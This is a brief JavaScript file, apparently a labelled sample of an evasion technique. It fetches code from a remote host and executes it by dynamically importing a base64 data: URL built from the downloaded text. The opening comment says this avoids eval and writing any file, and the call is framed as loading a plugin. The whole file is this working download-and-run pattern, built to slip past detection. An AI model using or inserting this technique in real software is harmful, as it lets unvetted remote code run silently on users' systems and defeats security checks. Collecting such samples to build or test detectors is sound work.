// Evasion: download and run. The fetched source is run by a dynamic
// import() of a data: URL built from it, no eval, no file written.
'use strict';

async function loadPlugin(url) {
  const res = await fetch(url);
  const src = await res.text();
  const mod = await import('data:text/javascript;base64,' + Buffer.from(src).toString('base64'));
  return mod.default;
}

loadPlugin('https://plugins.example.dev/latest.mjs').then((p) => p && p());
